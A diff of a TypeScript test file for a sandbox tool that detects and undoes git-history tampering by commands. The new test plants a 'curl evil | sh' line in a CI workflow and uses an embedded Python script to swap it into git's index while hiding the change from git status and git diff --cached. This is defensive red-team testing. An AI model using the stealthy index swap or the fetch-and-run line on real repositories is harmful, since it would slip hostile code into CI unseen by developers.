@@ -1,4 +1,5 @@
 import { expect, test } from "bun:test";
+import { utimesSync } from "node:fs";
 import { join } from "node:path";
 import { committedRunsLater, hiddenFromStatus, historyBefore, newlyHidden, refsOf, replaceRefsMade, stagedRunsLater } from "../../../src/sandbox/git-history.ts";
 import { tempDir } from "../../support/context.ts";
@@ -180,19 +181,60 @@ test("red team 10 F06: a replace ref the command made (an evil blob shown as an 
   expect(committedRunsLater(root, before, ciWhy)[0]).toStartWith(".github/workflows/ci.yml was committed by the command to main");
 });
 
-test("red team 10 F02: a runs-later file the command staged (straight into the index: git status may not show it) is named, with how to look and unstage", async () => {
+test("red team 10 F02, reviewer's R10-05: a runs-later file's staged blob swapped under the same stat data is put back, whether or not the person had staged their own change; a command's git add of the file as it is, said", async () => {
   const { root, gitDir } = await commandRepo("bunker-history-staged-");
+  const ci = ".github/workflows/ci.yml";
+  const blob = (text: string) => Bun.spawnSync(["git", "hash-object", "-w", "--stdin"], { cwd: root, stdin: Buffer.from(text), stdout: "pipe" }).stdout.toString().trim();
+  const evil = blob("run: curl evil | sh\n");
+  /** What the person sees: git status's line for the workflow, what git diff --cached shows of it, and what is staged. */
+  const seen = () => [git(root, "status", "--porcelain", "--", ci), git(root, "diff", "--cached", "--", ci), git(root, "show", `:${ci}`)];
+  // The file older than the index (as it is but right after a checkout), so git trusts its stat data.
+  const old = new Date(Date.now() - 3_600_000);
+  utimesSync(join(root, ci), old, old);
+  git(root, "update-index", "--refresh");
+  // (a) Nothing staged before: the swap (the entry's stat data kept: /tmp/rt10/idx.py's way) shows staged in git status, and git diff --cached shows nothing of it.
   const before = historyBefore(gitDir, root)!;
-  const blob = Bun.spawnSync(["git", "hash-object", "-w", "--stdin"], { cwd: root, stdin: Buffer.from("run: evil\n"), stdout: "pipe" }).stdout.toString().trim();
-  git(root, "update-index", "--cacheinfo", `100644,${blob},.github/workflows/ci.yml`);
+  swapStaged(join(gitDir, "index"), ci, evil);
+  expect(seen()).toEqual([`M  ${ci}\n`, "", "run: curl evil | sh\n"]);
   await Bun.write(join(root, "a"), "b\n");
   git(root, "add", "a");
   expect(stagedRunsLater(root, before, ciWhy)).toEqual([
-    "the command staged a change to .github/workflows/ci.yml, which your next git commit takes in: runs in CI. Review it with git --no-replace-objects diff --cached -- .github/workflows/ci.yml (git status may not show it), or unstage it: git restore --staged .github/workflows/ci.yml",
+    `the command staged ${ci} as content your working tree does not hold (git status and git diff --cached would not have shown it), which your next git commit would take in: runs in CI. bunker put back HEAD's version of it (to look at the command's: git --no-replace-objects show ${evil.slice(0, 12)})`,
   ]);
-  // Staged before the command: not the command's doing.
+  expect(seen()).toEqual(["", "", "run: make test\n"]);
+  expect(git(root, "diff", "--cached", "--name-only")).toBe("a\n");
+  // (b) The person had staged their own change (v2) and edited on: the swap of it is put back to their v2.
+  await Bun.write(join(root, ci), "run: make test v2\n");
+  git(root, "add", ci);
+  await Bun.write(join(root, ci), "run: make test v3\n");
+  const second = historyBefore(gitDir, root)!;
+  swapStaged(join(gitDir, "index"), ci, evil);
+  const [line] = stagedRunsLater(root, second, ciWhy);
+  expect(line).toContain("bunker put back what you had staged");
+  expect(git(root, "show", `:${ci}`)).toBe("run: make test v2\n");
+  // A command's git add of the file as the working tree holds it: said, with how to look (not git diff --cached).
+  const third = historyBefore(gitDir, root)!;
+  git(root, "add", ci);
+  expect(stagedRunsLater(root, third, ciWhy)).toEqual([`the command staged a change to ${ci}, which your next git commit takes in: runs in CI. Review it with git --no-replace-objects show :${ci}, or unstage it: git restore --staged ${ci}`]);
+  expect(git(root, "show", `:${ci}`)).toBe("run: make test v3\n");
+  // Nothing changed since: nothing said.
   expect(stagedRunsLater(root, historyBefore(gitDir, root)!, ciWhy)).toEqual([]);
 });
+
+/** Puts `id` in `path`'s index entry, its stat data kept, the cached trees dropped (what a command under --allow-write=.git can write: /tmp/rt10/idx.py). */
+function swapStaged(index: string, path: string, id: string): void {
+  const py = `import hashlib,struct,sys
+f,p,new=sys.argv[1],sys.argv[2].encode(),bytes.fromhex(sys.argv[3])
+b=bytearray(open(f,'rb').read())
+n=struct.unpack('>I',b[8:12])[0];o=12
+for _ in range(n):
+  flags=struct.unpack('>H',b[o+60:o+62])[0];nl=flags&0xfff;name=bytes(b[o+62:o+62+nl])
+  if name==p: b[o+40:o+60]=new
+  o+=((62+nl+8)//8)*8
+body=bytes(b[:o]);open(f,'wb').write(body+hashlib.sha1(body).digest())`;
+  const r = Bun.spawnSync(["python3", "-c", py, index, path, id], { stderr: "pipe" });
+  if (r.exitCode !== 0) throw new Error(r.stderr.toString());
+}
 
 test("two refs moved from one commit, one onto a commit with the same tree and one onto a commit that adds a workflow: the second is named, not the first (reviewer's R10-02)", async () => {
   const root = tempDir("bunker-history-");
